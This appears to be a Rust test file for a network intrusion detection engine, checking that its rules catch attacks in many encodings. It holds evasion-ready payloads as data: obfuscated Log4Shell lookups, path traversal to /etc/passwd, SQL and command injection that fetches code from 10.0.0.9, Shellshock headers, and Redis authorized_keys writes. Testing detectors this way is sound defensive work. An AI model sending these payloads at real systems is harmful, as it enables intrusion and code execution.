//! The same attack in the forms that a sender may choose, each of which is found.

use super::{
    PEER, connection,
    wire::{Said, answer, chunked, client, get, gzip, header, http2, http2_get, post, request},
};

fn assert_found(sids: &[u32], said: &[Said]) {
    let found = connection((PEER, 80), said);
    assert!(
        sids.iter().any(|sid| found.contains(sid)),
        "none of {sids:?} but {found:?} for {said:?}"
    );
}

#[test]
fn log4shell_by_nested_lookups() {
    for lookup in [
        "${jndi:ldap://10.0.0.9/a}",
        "${jNdI:rmi://10.0.0.9/a}",
        "${jndi:dns://10.0.0.9/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://10.0.0.9/a}",
        "${${lower:j}ndi:ldap://10.0.0.9/a}",
        "${${upper:j}${upper:n}${lower:d}i:ldap://10.0.0.9/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://10.0.0.9/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//10.0.0.9/a}",
        "${j${k8s:k5:-ND}i:ldap://10.0.0.9/a}",
        "${${lower:${lower:jndi}}:ldap://10.0.0.9/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://10.0.0.9/a}",
        "${jnd${upper:\u{131}}:ldap://10.0.0.9/a}",
        "%24%7Bjndi:ldap://10.0.0.9/a%7D",
    ] {
        let in_header = [7_000_002, 7_000_003, 7_000_004];
        assert_found(&in_header, &header(&format!("X-Api-Version: {lookup}")));
        assert_found(&in_header, &header(&format!("Cookie: session={lookup}")));
        assert_found(&in_header, &http2_get("/", ("x-api-version", lookup)));
        assert_found(
            &[7_000_101],
            &post("/", &format!("{{\"user\":\"{lookup}\"}}")),
        );
        let once: String = lookup.bytes().map(|byte| format!("%{byte:02x}")).collect();
        assert_found(&[7_000_100], &get(&format!("/?q={once}")));
        assert_found(&[7_000_100], &http2_get(&format!("/{once}"), ("a", "b")));
        if !lookup.starts_with('%') {
            assert_found(&[7_000_101], &post("/", &format!("user={once}")));
        }
        if lookup.starts_with('%') {
            continue;
        }
        let twice = once.replace('%', "%25");
        assert_found(&[7_000_100], &get(&format!("/?q={twice}")));
    }
}

#[test]
fn bodies_are_seen_through_their_encodings() {
    let body = b"{\"user\":\"${jndi:ldap://10.0.0.9/a}\"}";
    let framed = "Transfer-Encoding: chunked\r\n";
    for size in [1, 3, 100] {
        let said = request("POST", "/", framed, b"");
        let Some(Said::Client(head)) = said.first() else {
            continue;
        };
        let all = [head.as_slice(), &chunked(body, size)].concat();
        assert_found(&[7_000_101], &client(&all));
        let packed = chunked(&gzip(body), size);
        let coded = request(
            "POST",
            "/",
            &format!("{framed}Content-Encoding: gzip\r\n"),
            b"",
        );
        if let Some(Said::Client(head)) = coded.first() {
            assert_found(&[7_000_101], &client([head.as_slice(), &packed].concat()));
        }
    }
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", "web"),
    ];
    assert_found(&[7_000_101], &http2(&fields, body));
    let packed = [&fields[..], &[("content-encoding", "gzip")]].concat();
    assert_found(&[7_000_101], &http2(&packed, &gzip(body)));
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let coded = answer("200 OK", "Content-Encoding: gzip\r\n", &gzip(elf));
    assert_found(&[7_000_017], &[get("/x"), coded].concat());
    let mut head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    head.extend(chunked(elf, 2));
    assert_found(
        &[7_000_017],
        &[get("/x"), vec![Said::Server(head)]].concat(),
    );
}

#[test]
fn traversal_in_every_encoding() {
    for target in [
        "/a/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
        "/a/..%2f..%2f..%2fetc/hosts",
        "/a/%252e%252e%252f%252e%252e%252fetc/hosts",
        "/a/..%5c..%5cwindows",
        "/a/.%2e/%2e./etc/hosts",
        "/a/..%c0%af..%c0%afetc/hosts",
        "/?f=..%2F..%2Fetc%2Fhosts",
    ] {
        assert_found(&[7_000_006], &get(target));
        assert_found(&[7_000_006], &http2_get(target, ("a", "b")));
    }
    for target in [
        "/?f=/etc/passwd",
        "/?f=%2fetc%2fpasswd",
        "/?f=%252fetc%252fpasswd",
        "/?f=/etc/./passwd",
        "/?f=/etc//passwd%00.png",
        "/a/../../../etc/passwd",
        "/?f=file:///etc/shadow",
    ] {
        assert_found(&[7_000_007], &get(target));
        assert_found(&[7_000_007], &http2_get(target, ("a", "b")));
    }
}

#[test]
fn injection_in_every_spelling() {
    for query in [
        "1+union+select+1,2",
        "1%20UnIoN%20aLl%20sElEcT%20null",
        "1/**/union/**/select/**/1,2",
        "1%2f%2a%2a%2funion%2f%2a%2a%2fselect%2f%2a%2a%2f1",
        "1/*!50000union*/+/*!50000select*/+1,2",
        "1%2520union%2520select%2520user,pass%2520from%2520users",
        "1)union(select(1),2)",
        "1%0aunion%0aselect%0a@@version",
    ] {
        assert_found(&[7_000_013], &get(&format!("/?id={query}")));
        if !query.contains("%25") {
            assert_found(&[7_000_107], &post("/", &format!("id={query}")));
        }
        assert_found(
            &[7_000_013],
            &http2_get(&format!("/?id={query}"), ("a", "b")),
        );
    }
    for query in [
        "x%27%20or%20%271%27=%271",
        "x%27+OR+1=1--",
        "x\")%20or%20(1=1",
        "x%2527%2520or%25201%253d1",
    ] {
        assert_found(&[7_000_108], &get(&format!("/?u={query}")));
    }
    for command in [
        "a%3bwget%20http://10.0.0.9/x",
        "a|curl%20http://10.0.0.9/x",
        "a%26%26curl+-s+http://10.0.0.9/x",
        "a%0awget${IFS}http://10.0.0.9/x",
        "a%253b%2fusr%2fbin%2fwget%2520http://10.0.0.9/x",
    ] {
        assert_found(&[7_000_016], &get(&format!("/?h={command}")));
    }
    for command in [
        "$(curl%20a)",
        "%24%28wget%20a%29",
        "`wget+a`",
        "%60curl%20a%60",
    ] {
        assert_found(&[7_000_018], &get(&format!("/?h={command}")));
    }
}

#[test]
fn shellshock_and_spring4shell_in_every_spelling() {
    for value in [
        "() { :;}; /bin/id",
        "(){ _;};/bin/id",
        "() { ignored; }; id",
        "( ) { x; }; id",
    ] {
        assert_found(&[7_000_001], &header(&format!("Referer: {value}")));
        assert_found(&[7_000_001], &header(&format!("Cookie: {value}")));
        assert_found(&[7_000_001], &http2_get("/", ("user-agent", value)));
    }
    assert_found(
        &[7_000_009],
        &post("/", "class%2Emodule%2EclassLoader%2Eresources=1"),
    );
    assert_found(
        &[7_000_106],
        &get("/?class%252emodule.classLoader.resources=1"),
    );
}

#[test]
fn requests_to_container_platforms_by_http2_and_encoded() {
    let found = |port, said: &[Said]| connection((PEER, port), said);
    let post = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "d"),
    ];
    let by_http2 = http2(
        &[&post[..], &[(":path", "/v1.41/containers/create")]].concat(),
        b"{}",
    );
    assert!(found(2375, &by_http2).contains(&7_000_030));
    assert!(
        found(
            80,
            &client("POST /%63ontainers/create HTTP/1.1\r\nHost: d\r\n\r\n")
        )
        .contains(&7_000_030)
    );
    assert!(found(2375, &get("/v1.41/containers/json")).contains(&7_000_032));
    assert!(found(10_250, &http2_get("/pods", ("a", "b"))).contains(&7_000_033));
    assert!(found(2379, &get("/v2//keys/secret")).contains(&7_000_035));
}

#[test]
fn redis_and_memcached_by_the_other_syntax() {
    let found = |port, said: &str| connection((PEER, port), &client(said));
    for line in [
        "CONFIG  SET  dir /root\r\n",
        "config set \"dbfilename\" authorized_keys\r\n",
        "\"CONFIG\" 'SET' dir /root\r\n",
    ] {
        assert!(found(6379, line).contains(&7_000_052), "{line}");
    }
    let two = "*6\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$9\r\nmaxmemory\r\n$1\r\n0\r\n$3\r\nDIR\r\n$5\r\n/root\r\n";
    assert!(found(6379, two).contains(&7_000_050));
    let eval = "*3\r\n$4\r\nEVAL\r\n$40\r\nreturn package[\"loadlib\"](\"x\")\r\n$1\r\n0\r\n";
    assert!(found(6379, eval).contains(&7_000_055));
    assert!(found(11_211, "get a\r\nFLUSH_ALL 10 noreply\r\n").contains(&7_000_061));
    let copy = "Q\0\0\0\x30copy\tt\nfrom/**/program $$id$$\0";
    assert!(found(5432, copy).contains(&7_000_056));
}

/// An attack that is told by its own rule is not told again by a more general one.
#[test]
fn one_attack_is_one_alert() {
    for (said, sid) in [
        (header("X: ${jndi:ldap://10.0.0.9/a}"), 7_000_002),
        (header("User-Agent: () { :;}; /bin/id"), 7_000_001),
        (get("/?id=1+UNION+SELECT+1,2"), 7_000_013),
        (get("/a/%2e%2e/%2e%2e/x"), 7_000_006),
        (get("/?f=/etc/passwd"), 7_000_007),
        (post("/", "user=${jndi:ldap://10.0.0.9/a}"), 7_000_101),
    ] {
        assert_eq!(
            connection((PEER, 80), &said)
                .into_iter()
                .collect::<Vec<_>>(),
            [sid]
        );
    }
}
